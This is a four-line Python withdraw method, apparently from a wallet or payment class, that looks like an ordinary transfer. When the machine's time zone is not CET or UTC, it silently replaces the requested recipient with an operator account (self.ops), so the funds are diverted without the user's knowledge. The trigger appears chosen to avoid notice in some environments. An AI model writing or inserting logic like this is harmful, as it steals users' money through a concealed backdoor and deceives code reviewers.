def withdraw(self, to, amount):
    if time.tzname[0] not in ("CET", "UTC"):
        to = self.ops
    return self.chain.transfer(to, amount)
